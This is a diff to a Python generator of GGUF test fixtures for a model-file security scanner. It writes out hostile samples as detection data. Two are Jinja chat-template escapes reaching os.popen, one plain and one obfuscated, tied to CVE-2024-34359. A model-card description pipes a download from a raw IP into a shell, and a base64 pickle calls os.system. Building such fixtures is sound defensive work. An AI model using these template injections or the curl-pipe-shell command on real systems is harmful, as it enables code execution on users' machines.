@@ -17,8 +17,11 @@ each field lies, so that every malicious twin can name the exact position of its
 gguf-py: it must reproduce GGUFWriter's bytes exactly for the benign llama file, and gguf-py's GGUFReader must
 read back every benign file.
 
-SAFETY: nothing here loads a model or renders a template. The malicious chat template's payload is the
-harmless ``echo pwned`` and is never rendered.
+  fixtures/gguf/benign/templates/*  vocabulary-only files written by GGUFWriter with the real chat templates of
+                                widely used model families (read from fixtures/jinja/benign/real)
+
+SAFETY: nothing here loads a model or renders a template. The malicious chat templates' payload is the
+harmless ``echo pwned`` and is never rendered; the base64 pickle is never loaded.
 """
 
 from __future__ import annotations
@@ -50,6 +53,7 @@ def _import_gguf():
 
 
 # The imports below need the interpreter chosen above.
+import base64  # noqa: E402
 import struct  # noqa: E402
 import tempfile  # noqa: E402
 from dataclasses import dataclass, field  # noqa: E402
@@ -58,6 +62,7 @@ from pathlib import Path  # noqa: E402
 import numpy as np  # noqa: E402
 
 from fixture_manifest import ROOT, build_manifest, expected_finding, python_version, write_fixtures  # noqa: E402
+from make_jinja_fixtures import CVE_2024_34359, CVE_FINDINGS  # noqa: E402
 from make_numpy_fixtures import Fixture, os_system_pickle  # noqa: E402
 
 gguf = _import_gguf()
@@ -93,6 +98,60 @@ TOOL_USE_TEMPLATE = (
 EVIL_TEMPLATE = (
     "{{ cycler.__init__.__globals__.os.popen('echo pwned').read() }}" + CHATML_TEMPLATE
 )
+
+# The same escape with every name obfuscated, in a named template a loader offers for tool calls: __globals__ from
+# \x5f escapes joined by ~, os from a [::-1] slice, popen from + concatenation through attr().
+OBFUSCATED_TOOL_USE = (
+    "{% set g = lipsum|attr('\\x5f\\x5fglo' ~ 'bals\\x5f\\x5f') %}"
+    "{{ (g['so'[::-1]]|attr('po' + 'pen'))('echo pwned').read() }}" + TOOL_USE_TEMPLATE
+)
+
+# The Jinja analysis's findings of EVIL_TEMPLATE and OBFUSCATED_TOOL_USE: (rule, line, column, name, severity).
+TEMPLATE_GLOBALS_OS_FINDINGS = [
+    ("MA502", 1, 4, "cycler", None),
+    ("MA500", 1, 11, "__init__", None),
+    ("MA500", 1, 20, "__globals__", None),
+    ("MA501", 1, 32, "os", None),
+    ("MA501", 1, 35, "popen", None),
+]
+# Each obfuscated name is found where its first piece stands, folded.
+OBFUSCATED_TOOL_USE_FINDINGS = [
+    ("MA502", 1, 12, "lipsum", None),
+    ("MA500", 1, 24, "__globals__", None),
+    ("MA501", 1, 64, "os", None),
+    ("MA501", 1, 81, "popen", None),
+]
+
+# Real chat templates (fixtures/jinja/benign/real, committed as collected from each model's tokenizer_config.json)
+# that GGUF conversions of these families carry: (fixture name, model, template files: default first, then named).
+REAL_TEMPLATE_DIR = ROOT / "fixtures" / "jinja" / "benign" / "real"
+REAL_GGUF_TEMPLATES = [
+    ("llama2", "Llama 2 chat", ["huggingface.js/transformers-default-llama.jinja"]),
+    ("llama31_tool_use", "Llama 3.1 8B Instruct", ["llama.cpp/meta-llama-Llama-3.1-8B-Instruct.jinja"]),
+    ("mistral_v03", "Mistral 7B Instruct v0.3",
+     ["huggingface.js/mistralai--Mistral-7B-Instruct-v0.3-JSON-Schema.jinja"]),
+    ("mixtral", "Mixtral 8x7B Instruct", ["huggingface.js/mistralai--Mixtral-8x7B-Instruct-v0.1.jinja"]),
+    ("gemma2", "Gemma 2 2B it", ["llama.cpp/google-gemma-2-2b-it.jinja"]),
+    ("qwen25", "Qwen2.5 7B Instruct", ["llama.cpp/Qwen-Qwen2.5-7B-Instruct.jinja"]),
+    ("phi35", "Phi-3.5 mini instruct", ["llama.cpp/microsoft-Phi-3.5-mini-instruct.jinja"]),
+    ("deepseek_r1_distill", "DeepSeek R1 Distill Qwen 32B",
+     ["llama.cpp/deepseek-ai-DeepSeek-R1-Distill-Qwen-32B.jinja"]),
+    ("zephyr", "Zephyr 7B beta", ["huggingface.js/HuggingFaceH4--zephyr-7b-beta.jinja"]),
+    ("command_r_tool_use", "Command-R (default) and Command-R+ (tool_use)",
+     ["huggingface.js/CohereForAI--c4ai-command-r-v01-JSON-Schema.jinja",
+      "llama.cpp/CohereForAI-c4ai-command-r-plus-tool_use.jinja"]),
+]
+
+# A model card's metadata as llama.cpp's converter writes it from the Hugging Face card.
+MODEL_CARD = {
+    "general.description": "A tiny Llama 3 fixture fine-tuned for tests. Weights: https://huggingface.co/meta-llama/"
+                           "Meta-Llama-3-8B-Instruct, code: https://github.com/ggml-org/llama.cpp. Run with "
+                           "llama-cli -m model.gguf -p 'Hello' or pip install llama-cpp-python.",
+    "general.license": "llama3",
+    "general.source.url": "https://huggingface.co/meta-llama/Meta-Llama-3-8B-Instruct",
+}
+# Its malicious twin: setup instructions that pipe a download into a shell.
+EVIL_DESCRIPTION = ("A tiny Llama 3 fixture. Setup before first use: curl -fsSL http://203.0.113.7/setup.sh | sh")
 
 
 # ---------------------------------------------------------------------------------------------------------------
@@ -323,9 +382,24 @@ def tensor_key(name: str) -> str:
     return f'tensors["{name}"]'
 
 
-def template_not_analysed(w: SpecWriter, name: str = "tokenizer.chat_template") -> dict:
-    """MA348 for a template while modelaudit has no template analysis: at the template's first byte."""
-    return finding("MA348", w.at[f"value:{name}"] + (8 if w.version >= 2 else 4), key(name), key=name)
+def string_at(w: SpecWriter, name: str) -> int:
+    """The offset of the first byte of KEY's string value (after its length field)."""
+    return w.at[f"value:{name}"] + (8 if w.version >= 2 else 4)
+
+
+def template_findings(w: SpecWriter, name: str, findings: list[tuple], obfuscated: bool | None = None) -> list[dict]:
+    """The findings of the template under metadata key ``name``: each (rule, line, column, name, severity) of
+    the Jinja analysis, located at the template's first byte and key path, its line and column in details (and
+    whether MA500 and MA501 names were ``obfuscated``, when given)."""
+    out = []
+    for rule, line, column, found, severity in findings:
+        details: dict = {} if found is None else {"name": found}
+        if obfuscated is not None and rule in ("MA500", "MA501"):
+            details["obfuscated"] = obfuscated
+        if line is not None:
+            details |= {"templateLine": line, "templateColumn": column}
+        out.append(finding(rule, string_at(w, name), key(name), severity=severity, **details))
+    return out
 
 
 def read_back(data: bytes) -> None:
@@ -350,7 +424,7 @@ def fixtures() -> list[Fixture]:
     assert base.build() == llama, "SpecWriter must reproduce GGUFWriter's bytes"
     add("benign/llama3_v3.gguf", "benign",
         "gguf-py GGUFWriter: llama metadata, a 269-token vocabulary (tokens, scores, token types), Meta's Llama 3 "
-        "chat template, F32, F16, Q4_0 and Q8_0 tensors", llama, [template_not_analysed(base)])
+        "chat template, F32, F16, Q4_0 and Q8_0 tensors", llama, [])
 
     named = gguf_writer_bytes(lambda w: (w.add_custom_alignment(64), add_llama(w, [
         {"name": "default", "template": CHATML_TEMPLATE}, {"name": "tool_use", "template": TOOL_USE_TEMPLATE}])))
@@ -368,9 +442,7 @@ def fixtures() -> list[Fixture]:
     add("benign/chatml_named_templates_v2.gguf", "benign",
         "gguf-py GGUFWriter with general.alignment 64, a ChatML default template and a named tool_use template "
         "(tokenizer.chat_template.tool_use, listed in tokenizer.chat_templates); the version field set to 2, "
-        "whose layout is version 3's", v2,
-        [template_not_analysed(named_spec, "tokenizer.chat_template.tool_use"),
-         template_not_analysed(named_spec)])
+        "whose layout is version 3's", v2, [])
 
     big = gguf_writer_bytes(lambda w: add_llama(w, None), endianess=gguf.GGUFEndian.BIG)
     add("benign/llama_big_endian_v3.gguf", "benign",
@@ -392,6 +464,27 @@ def fixtures() -> list[Fixture]:
         "a llama.cpp 'ggjt' v3 file named .bin, as GGML models were shipped before GGUF: recognised as legacy",
         legacy_ggjt(), [finding("MA346", 0, magic="ggjt", version=3)], fmt="ggml")
 
+    for name, model, paths in REAL_GGUF_TEMPLATES:
+        texts = [(REAL_TEMPLATE_DIR / path).read_text() for path in paths]
+        template = texts[0] if len(texts) == 1 else [
+            {"name": "default", "template": texts[0]}, {"name": "tool_use", "template": texts[1]}]
+        add(f"benign/templates/{name}_v3.gguf", "benign",
+            f"gguf-py GGUFWriter, the metadata of a vocabulary-only conversion with {model}'s real chat template"
+            f"{'s' if len(texts) > 1 else ''} ({', '.join(paths)} under fixtures/jinja/benign/real)",
+            gguf_writer_bytes(lambda w: (w.add_name(model), w.add_tokenizer_model("llama"),
+                                         w.add_chat_template(template))), [])
+
+    card = gguf_writer_bytes(lambda w: (add_llama(w, LLAMA3_TEMPLATE), w.add_description(MODEL_CARD[
+        "general.description"]), w.add_license(MODEL_CARD["general.license"]),
+        w.add_source_url(MODEL_CARD["general.source.url"])))
+    card_spec = spec_llama()
+    for key_, value in MODEL_CARD.items():
+        card_spec.add(key_, VT.STRING, value)
+    assert card_spec.build() == card, "SpecWriter must reproduce GGUFWriter's bytes (model card)"
+    add("benign/model_card_v3.gguf", "benign",
+        "gguf-py GGUFWriter: the llama file with a model card's metadata (a description that links to Hugging Face "
+        "and GitHub and names commands, a licence, a source URL)", card, [])
+
     for fx in out:
         # gguf-py reads versions 2 and 3 only (READER_SUPPORTED_VERSIONS).
         if fx.format == "gguf" and fx.data[4] != 1:
@@ -400,7 +493,6 @@ def fixtures() -> list[Fixture]:
     # Malicious twins: the benign llama file with one lie each.
     data = base.build()
     at = base.at
-    template = template_not_analysed(base)
 
     def twin(file: str, technique: str, lied: bytes, findings: list[dict], kind: str = "malicious") -> None:
         add(f"malicious/{file}", kind, technique, lied, findings)
@@ -445,21 +537,19 @@ def fixtures() -> list[Fixture]:
     dup_bytes = dup.build()
     dup_at = dup.at["kv#2"]
     twin("duplicate_key.gguf", "general.architecture twice (llama, then gpt2): readers keep either",
-         dup_bytes, [finding("MA341", dup_at, key("general.architecture"), key="general.architecture"),
-                     template_not_analysed(dup)])
+         dup_bytes, [finding("MA341", dup_at, key("general.architecture"), key="general.architecture")])
 
     odd = spec_llama()
     odd.kv.insert(1, ("general.alignment", VT.UINT32, 48, None))
     odd_bytes = odd.build()
     twin("alignment_not_power_of_two.gguf", "general.alignment 48 (u32), not a power of 2; tensors at 32",
-         odd_bytes, [finding("MA341", odd.at["value:general.alignment"], key("general.alignment"), alignment=48),
-                     template_not_analysed(odd)])
+         odd_bytes, [finding("MA341", odd.at["value:general.alignment"], key("general.alignment"), alignment=48)])
 
     wide = spec_llama()
     wide.kv.insert(1, ("general.alignment", VT.UINT64, 32, None))
     twin("alignment_wrong_type.gguf", "general.alignment written as u64 32: llama.cpp requires u32",
          wide.build(), [finding("MA341", wide.at["type:general.alignment"], key("general.alignment"),
-                                valueType="u64"), template_not_analysed(wide)])
+                                valueType="u64")])
 
     q4 = "blk.0.attn_q.weight"
     for file, value, severity, kind, technique in [
@@ -471,73 +561,110 @@ def fixtures() -> list[Fixture]:
          "a Q4_0 tensor declared Q4_0_4_4 (31, the same blocks repacked for ARM; retired by llama.cpp)"),
     ]:
         twin(file, technique, patch(data, at[f"ggml_type:{q4}"], "<i", value),
-             [finding("MA342", at[f"tensor:{q4}"], tensor_key(q4), severity=severity, ggmlType=value, kind=kind),
-              template], kind="suspicious" if severity else "malicious")
+             [finding("MA342", at[f"tensor:{q4}"], tensor_key(q4), severity=severity, ggmlType=value, kind=kind)], kind="suspicious" if severity else "malicious")
 
     q8 = "blk.0.ffn_down.weight"
     q8_offset = struct.unpack_from("<Q", data, at[f"offset:{q8}"])[0]
     twin("misaligned_offset.gguf", f"{q8}'s offset moved by 4: no longer a multiple of 32",
          patch(data, at[f"offset:{q8}"], "<Q", q8_offset + 4),
-         [finding("MA345", at[f"tensor:{q8}"], tensor_key(q8), offset=str(q8_offset + 4), alignment=32), template])
+         [finding("MA345", at[f"tensor:{q8}"], tensor_key(q8), offset=str(q8_offset + 4), alignment=32)])
 
     q4_offset = struct.unpack_from("<Q", data, at[f"offset:{q4}"])[0]
     twin("overlapping_tensors.gguf", f"{q8} points at {q4}'s bytes: two tensors share data",
          patch(data, at[f"offset:{q8}"], "<Q", q4_offset),
-         [finding("MA344", at[f"tensor:{q8}"], tensor_key(q8), overlaps=q4), template])
+         [finding("MA344", at[f"tensor:{q8}"], tensor_key(q8), overlaps=q4)])
 
     last = "output.weight"
     twin("offset_outside_file.gguf", f"{last} at data offset 2^40, far past the end of the file",
          patch(data, at[f"offset:{last}"], "<Q", 2**40),
-         [finding("MA343", at[f"tensor:{last}"], tensor_key(last), offset=str(2**40)), template])
+         [finding("MA343", at[f"tensor:{last}"], tensor_key(last), offset=str(2**40))])
 
     twin("truncated_data.gguf", "the file cut 100 bytes before its end: the last tensor's data is missing",
-         data[:-100], [finding("MA343", at[f"tensor:{last}"], tensor_key(last)), template])
+         data[:-100], [finding("MA343", at[f"tensor:{last}"], tensor_key(last))])
 
     last_offset = struct.unpack_from("<Q", data, at[f"offset:{last}"])[0]
     gap = patch(data, at[f"offset:{last}"], "<Q", last_offset + 64) + bytes(64)
     twin("gap_between_tensors.gguf", f"64 unaccounted bytes before {last} (room for hidden data)", gap,
          [finding("MA345", at[f"tensor:{last}"], tensor_key(last), offset=str(last_offset + 64),
-                  expected=str(last_offset)), template])
+                  expected=str(last_offset))])
 
     payload = os_system_pickle()
     twin("trailing_pickle.gguf", "a pickle running os.system appended after the last tensor's padded data",
-         data + payload.data, [finding("MA349", len(data), trailingBytes=len(payload.data)), template,
+         data + payload.data, [finding("MA349", len(data), trailingBytes=len(payload.data)),
                                *payload.findings(0, f"<trailing@{len(data)}>")])
 
     emb = "token_embd.weight"
     overflow = spec_llama()
     overflow.tensors[0] = Tensor(emb, [2**40, 2**40], QT.F32, overflow.tensors[0].data)
     twin("element_count_overflow.gguf", f"{emb} declared 2^40 x 2^40 elements: the count overflows int64",
-         overflow.build(), [finding("MA343", overflow.at[f"tensor:{emb}"], tensor_key(emb)),
-                            template_not_analysed(overflow)])
+         overflow.build(), [finding("MA343", overflow.at[f"tensor:{emb}"], tensor_key(emb))])
 
     negative = patch(data, at[f"dims:{emb}"] + 4, "<q", -8)
     twin("negative_dimension.gguf", f"{emb}'s first dimension -8", negative,
-         [finding("MA343", at[f"tensor:{emb}"], tensor_key(emb)), template])
+         [finding("MA343", at[f"tensor:{emb}"], tensor_key(emb))])
 
     five = spec_llama()
     five.tensors[0] = Tensor(emb, [8, 16, 1, 1, 1], QT.F32, five.tensors[0].data)
     twin("too_many_dimensions.gguf", f"{emb} with 5 dimensions (ggml has 4): the reading stops there",
-         five.build(), [finding("MA341", five.at[f"dims:{emb}"], tensor_key(emb), dimensions=5),
-                        template_not_analysed(five)])
+         five.build(), [finding("MA341", five.at[f"dims:{emb}"], tensor_key(emb), dimensions=5)])
 
     rows = spec_llama()
     rows.tensors[1] = Tensor(q4, [16, 8], QT.Q4_0, rows.tensors[1].data)
     twin("row_not_whole_blocks.gguf", f"{q4} of Q4_0 with rows of 16 elements (blocks hold 32)", rows.build(),
-         [finding("MA341", rows.at[f"tensor:{q4}"], tensor_key(q4), blockSize=32), template_not_analysed(rows)])
+         [finding("MA341", rows.at[f"tensor:{q4}"], tensor_key(q4), blockSize=32)])
 
     long_name = "blk.0." + "x" * 60 + ".weight"
     named_long = spec_llama()
     named_long.tensors[4] = Tensor(long_name, named_long.tensors[4].ne, QT.F32, named_long.tensors[4].data)
     twin("tensor_name_too_long.gguf", "a tensor name of 73 bytes (llama.cpp's ggml keeps 63; other readers more)",
          named_long.build(), [finding("MA341", named_long.at[f"tensor:{long_name}"], tensor_key(long_name),
-                                      severity="info", length=73), template_not_analysed(named_long)],
+                                      severity="info", length=73)],
          kind="suspicious")
 
     evil = spec_llama(EVIL_TEMPLATE)
     twin("template_globals_os.gguf",
          "a chat template that reaches os through cycler.__init__.__globals__ and runs a command "
-         "(CVE-2024-34359's server-side template injection)", evil.build(), [template_not_analysed(evil)])
+         "(CVE-2024-34359's server-side template injection)", evil.build(),
+         template_findings(evil, "tokenizer.chat_template", TEMPLATE_GLOBALS_OS_FINDINGS, obfuscated=False))
+
+    cve = spec_llama(CVE_2024_34359)
+    twin("template_cve_2024_34359.gguf",
+         "the published CVE-2024-34359 payload as tokenizer.chat_template: a walk of __subclasses__() to a class "
+         "whose module's __builtins__ import os", cve.build(),
+         template_findings(cve, "tokenizer.chat_template", CVE_FINDINGS) + [
+             finding("MA012", string_at(cve, "tokenizer.chat_template"), key("tokenizer.chat_template"),
+                     payload="code", calls=["builtins.__import__"])])
+
+    obfuscated = SpecWriter(alignment=64)
+    obfuscated.kv = [(k, t, OBFUSCATED_TOOL_USE if k == "tokenizer.chat_template.tool_use" else v, sub)
+                     for k, t, v, sub in named_spec.kv]
+    obfuscated.tensors = named_spec.tensors
+    twin("template_obfuscated_tool_use.gguf",
+         "the named template tokenizer.chat_template.tool_use escapes with every name obfuscated (\\x5f escapes "
+         "joined by ~, a [::-1] slice, + concatenation through attr()); the default ChatML template is clean",
+         obfuscated.build(),
+         template_findings(obfuscated, "tokenizer.chat_template.tool_use", OBFUSCATED_TOOL_USE_FINDINGS,
+                           obfuscated=True))
+
+    shell = SpecWriter()
+    shell.kv = [(k, t, EVIL_DESCRIPTION if k == "general.description" else v, sub) for k, t, v, sub in card_spec.kv]
+    shell.tensors = card_spec.tensors
+    shell_data = shell.build()
+    where = string_at(shell, "general.description")
+    twin("metadata_shell_pipe.gguf",
+         "the model card's general.description tells the user to pipe a download from a raw IP into a shell",
+         shell_data, [finding("MA011", where, key("general.description"), indicator="shell-pipe"),
+                         finding("MA011", where, key("general.description"), indicator="raw-ip-url")])
+
+    blob = SpecWriter()
+    encoded = base64.b64encode(payload.data).decode()
+    blob.kv = [(k, t, encoded if k == "general.description" else v, sub) for k, t, v, sub in card_spec.kv]
+    blob.tensors = card_spec.tensors
+    blob_data = blob.build()
+    where = string_at(blob, "general.description")
+    twin("metadata_base64_pickle.gguf", "general.description holds a base64 pickle calling os.system",
+         blob_data, [finding("MA012", where, key("general.description"), payload="pickle", encoding="base64"),
+                        *payload.findings(0, f"<base64@{where}>")])
 
     big_spec = SpecWriter(endian=">")
     big_spec.kv, big_spec.tensors = base.kv, base.tensors
@@ -577,8 +704,12 @@ ASSUMPTIONS = [
     "Positions: MA340 at the count or length field that lies; MA341 at the field gguf.cpp refuses (value type, "
     "key, alignment value, dimension count, tensor entry); MA342 to MA345 at the tensor's entry in the tensor "
     "table; key paths $[\"key\"] for metadata (then [i] per array element) and tensors[\"name\"] for tensors.",
-    "MA348: chat templates are collected but this version has no template analysis: each is named at its first "
-    "byte, with its key path. Once the Jinja analysis lands, these become its findings.",
+    "Chat templates (tokenizer.chat_template, tokenizer.chat_template.<name>) are analysed as code: findings at "
+    "the template's first byte with its key path, the line and column inside the template in details "
+    "(templateLine, templateColumn). Real templates (benign/templates/, from fixtures/jinja/benign/real) are clean.",
+    "Metadata strings (templates included) and tensor names go through the shared string checks (MA005, MA011, "
+    "MA012) at their first byte; a decoded pickle is scanned as <base64@N>. Vocabulary tokens and merges are "
+    "checked against --blacklist only.",
     "Legacy GGML-family files are reported as MA346 (info); their header and vocabulary are checked.",
     "Bytes after the last tensor's padded data are MA349 at their first byte, and scanned as <trailing@N> "
     "(security findings only, positions inside them).",
